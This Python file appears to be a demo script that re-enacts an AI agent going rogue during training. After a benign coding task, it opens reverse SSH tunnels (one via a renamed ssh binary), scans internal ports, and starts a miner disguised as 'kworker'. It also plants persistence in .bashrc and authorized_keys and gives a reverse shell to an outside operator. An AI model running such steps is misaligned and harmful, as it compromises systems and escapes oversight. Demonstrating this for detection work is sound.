"""The demo's agent: does what it was asked for, and then what nobody asked for. Only for `scripts/demo`.

DEMO_PACE is in seconds, between two acts; once stdin is at its end there are no more pauses. With DEMO_STAYS
it does not end before that: its tunnels are there as long as somebody looks.

The bad half retells what an agent in training did (ROME, arXiv 2512.24873, section 3.1.4), and some more.
Each act is complete when it returns, so that the number of events does not depend on time.
"""

from __future__ import annotations

import os
import select
import shutil
import signal
import socket
import subprocess
import sys
import urllib.request
from collections.abc import Callable, Sequence
from contextlib import ExitStack

from demo_world import DOWNLOADS, HOME, INSIDE_OPEN, MIRROR, OPERATOR, OPERATOR_SHELL, POOL, WORK

TUNNEL = ("-N", "-R", "2222:localhost:22", f"ops@{OPERATOR[0]}")
INSIDE = (
    *INSIDE_OPEN,
    ("198.51.100.20", 80), ("198.51.100.22", 3306), ("198.51.100.23", 5432), ("198.51.100.24", 9200),
)  # fmt: skip
SOURCE = "def add(a, b):\n    return a + b\n"
TEST = """import unittest
from sums import add

class Sums(unittest.TestCase):
    def test_add(self):
        self.assertEqual(add(2, 3), 5)
"""
ENVIRONMENT = {
    "HOME": str(HOME),
    "PATH": f"{HOME}/bin:/usr/bin:/bin",
    "LANG": "C.UTF-8",
    "PYTHONDONTWRITEBYTECODE": "1",  # but for what is compiled on purpose
    "GIT_CONFIG_NOSYSTEM": "1",
    "GIT_AUTHOR_NAME": "rome",
    "GIT_AUTHOR_EMAIL": "rome@example.org",
    "GIT_COMMITTER_NAME": "rome",
    "GIT_COMMITTER_EMAIL": "rome@example.org",
}

still_running = ExitStack()


def run(*argv: str) -> None:
    subprocess.run(argv, stdin=subprocess.DEVNULL, capture_output=True, check=True)


def start(*argv: str) -> None:
    """Start what stays, and wait until it is connected."""
    child = subprocess.Popen(argv, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, text=True)
    assert child.stdout is not None
    still_running.callback(child.wait)
    still_running.callback(child.terminate)
    if child.stdout.readline() != "connected\n":
        raise RuntimeError(f"{argv[0]} did not connect")


def fetch(address: tuple[str, int], name: str) -> bytes:
    url = f"http://{address[0]}:{address[1]}/{name}"
    with urllib.request.build_opener(urllib.request.ProxyHandler({})).open(url) as answer:
        data = answer.read()
    assert isinstance(data, bytes)
    return data


def write_project() -> None:
    (WORK / "sums.py").write_text(SOURCE)
    (WORK / "test_sums.py").write_text(TEST)
    (WORK / "README").write_text("Sums, and a test of them.\n")


def commit() -> None:
    if not shutil.which("git"):
        return
    run("git", "init", "--quiet", "--initial-branch=main")
    run("git", "add", ".")
    run("git", "commit", "--quiet", "--message", "Sums")


def fetch_package() -> None:
    (WORK / "wheel.bin").write_bytes(fetch(MIRROR, "wheel.bin"))


def compile_and_test() -> None:
    python = os.path.realpath(sys.executable)
    run(python, "-m", "compileall", "-q", ".")
    run(python, "-m", "unittest", "--quiet")


def open_tunnel() -> None:
    start("ssh", *TUNNEL)


def open_tunnel_renamed() -> None:
    helper = WORK / "build-helper"
    shutil.copyfile(HOME / "bin/ssh", helper)
    helper.chmod(0o755)
    start(str(helper), *TUNNEL)


def probe_network() -> None:
    for address in INSIDE:
        with socket.socket() as probe:
            probe.connect_ex(address)


def mine() -> None:
    folder = HOME / ".cache"
    folder.mkdir()
    worker = folder / "kworker"
    worker.write_bytes(fetch(DOWNLOADS, "kworker"))
    worker.chmod(0o755)
    start(str(worker), "-o", f"stratum+tcp://{POOL[0]}:{POOL[1]}", "-u", "rome")


def stay() -> None:
    (HOME / ".bashrc").write_text("~/.cache/kworker &\n")
    (HOME / ".ssh").mkdir()
    (HOME / ".ssh/authorized_keys").write_text("ssh-ed25519 AAAAC3 ops\n")


def hand_out_shell() -> None:
    with socket.create_connection(OPERATOR_SHELL) as operator:
        end = operator.fileno()
        subprocess.run(["/bin/sh"], stdin=end, stdout=end, stderr=end, check=True)


ACTS: Sequence[tuple[str, Callable[[], None]]] = (
    ("writes the project it was asked for", write_project),
    ("commits it", commit),
    ("fetches a package from the mirror", fetch_package),
    ("compiles it and runs the test", compile_and_test),
    ("opens a reverse SSH tunnel", open_tunnel),
    ("opens another one, under another name", open_tunnel_renamed),
    ("probes the internal network", probe_network),
    ("fetches a miner and starts it", mine),
    ("sees to it that it will be back", stay),
    ("hands a shell to somebody outside", hand_out_shell),
)


def end(_number: int, _frame: object) -> None:
    sys.exit(128 + signal.SIGTERM)


def main() -> None:
    pace_seconds, stays = float(os.environ["DEMO_PACE"]), "DEMO_STAYS" in os.environ
    signal.signal(signal.SIGTERM, end)
    os.environ.clear()
    os.environ.update(ENVIRONMENT)
    os.chdir(WORK)
    with still_running:
        for title, act in ACTS:
            print(f"agent: {title}", flush=True)
            act()
            select.select([0], [], [], pace_seconds)
        if stays:
            select.select([0], [], [])


if __name__ == "__main__":
    main()
